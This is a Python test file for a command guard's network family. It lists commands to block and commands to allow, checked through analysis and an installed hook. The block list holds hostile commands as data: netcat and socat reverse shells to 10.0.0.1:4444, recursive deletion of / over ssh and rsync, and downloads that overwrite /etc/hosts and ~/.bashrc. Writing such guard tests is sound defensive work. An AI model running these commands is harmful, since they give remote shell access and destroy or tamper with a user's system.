"""The network family (network clients and remote commands; shell/families/network.py): commands it
must block and commands that must stay allowed, through the analysis, bash-check and the
installed hook (see familykit)."""

from __future__ import annotations

from familykit import family_tests, workspace_fixture

FAMILY = "network"

#: (command, finding kind or "unknown"[, command family when not this one])
BLOCK = [
    ("curl -X DELETE https://api.example.com/y", "http-delete"),
    ("curl -XDELETE https://example.com/x", "http-delete"),
    ("curl --request=DELETE https://example.com/x", "http-delete"),
    ("wget --method=DELETE https://example.com/x", "http-delete"),
    ("http DELETE https://example.com/x", "http-delete"),
    ("curl -H 'X-HTTP-Method-Override: DELETE' -d x https://example.com", "http-delete"),
    ("nc -e /bin/sh 10.0.0.1 4444", "fetched-exec"),
    ("socat TCP:10.0.0.1:4444 EXEC:/bin/sh", "fetched-exec"),
    ("ssh host rm -rf /", "rm-recursive", "files"),
    ("rsync -a --delete src/ /", "rm-recursive"),
    ("curl -o /etc/hosts https://example.com", "system-write"),
    ("wget -O ~/.bashrc https://example.com", "system-write"),
    ("ssh-keygen -t ed25519 -f ~/.ssh/id_new -N ''", "system-write"),
    ("ssh-keygen -R github.com", "system-write"),
    ("rsync -a --delete src/ /srv/site", "rm-recursive"),
]

#: Commands that must stay allowed.
ALLOW = [
    "curl -s https://example.com",
    "curl -o /tmp/x.json https://example.com",
    "wget -q https://example.com -O /tmp/page.html",
    "curl -X POST -d x https://example.com",
    "ssh host ls",
    "rsync -a src/ /tmp/backup/",
    "scp host:/x /tmp/",
    # Over-blocks removed
    "ssh-keygen -l -f ~/.ssh/id_rsa.pub",
    "ssh-keygen -y -f ~/.ssh/id_ed25519",
    "ssh-keygen -F github.com",
    "rsync --dry-run -a --delete / /backup",
    "rsync -avn --delete ./ /srv/site",
]

#: (command, how, path it writes relative to the repository)
WRITES = [
    ("curl -o out.txt https://x", "curl -o", "out.txt"),
]

family_ws = workspace_fixture()
globals().update(family_tests(FAMILY, BLOCK, ALLOW, WRITES))
